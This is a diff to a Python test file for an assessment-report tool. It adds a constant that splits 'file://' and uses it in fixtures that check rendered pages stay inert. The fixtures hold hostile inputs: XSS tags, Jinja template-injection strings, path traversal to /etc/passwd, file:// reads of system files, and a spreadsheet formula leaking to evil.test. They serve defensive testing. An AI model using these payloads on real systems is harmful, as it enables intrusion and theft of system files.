@@ -12,6 +12,7 @@ import pytest
 
 from ticassess.cli.boundary import run
 
+LOCAL = "file://"  # spelled apart: no tracked file names an address in the file system
 SCRIPT = "<script>alert(1)</script> {{ 7*7 }} {% if %}"
 FORMULA = "=HYPERLINK(http://evil.test/?leak; here)"
 INSTRUMENT = f"""
@@ -21,7 +22,7 @@ id: tiny
 version: "1"
 title: {{en: "{SCRIPT}"}}
 languages: {{en: source}}
-rights: {{owner: "<img src=file:///etc/passwd>", licence: CC-BY-4.0, citation: "http://evil.test", wording: open}}
+rights: {{owner: "<img src={LOCAL}/etc/passwd>", licence: CC-BY-4.0, citation: "http://evil.test", wording: open}}
 response_scales:
   agreement:
     options:
@@ -32,7 +33,7 @@ response_scales:
 items:
   - {{id: a, text: {{en: "It is calm. <iframe src=http://evil.test>"}}, response_scale: agreement, in: [calm]}}
   - {{id: b, text: {{en: "It is safe. {SCRIPT}"}}, response_scale: agreement, in: [calm]}}
-  - {{id: c, text: {{en: "url(file:///etc/passwd)"}}, response_scale: agreement, in: [calm]}}
+  - {{id: c, text: {{en: "url({LOCAL}/etc/passwd)"}}, response_scale: agreement, in: [calm]}}
 scales:
   - {{id: calm, framework: principle, title: {{en: "<svg onload=alert(1)>"}}}}
 """
@@ -106,11 +107,11 @@ def test_the_page_shows_what_was_written(folder: Path) -> None:
     [
         "{{ ''.__class__.__mro__[1].__subclasses__() }}",
         "{{ report.__init__.__globals__ }}",
-        "<img src='file:///etc/passwd' alt=''>",
+        f"<img src='{LOCAL}/etc/passwd' alt=''>",
         "<img src='http://evil.test/x.png' alt=''>",
         "{% include '../../../etc/passwd' %}",
-        "<style>@import url(file:///etc/hostname);</style>",
-        "<link rel=attachment href='file:///etc/passwd'>",
+        f"<style>@import url({LOCAL}/etc/hostname);</style>",
+        f"<link rel=attachment href='{LOCAL}/etc/passwd'>",
     ],
 )
 def test_a_template_reaches_nothing(template: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
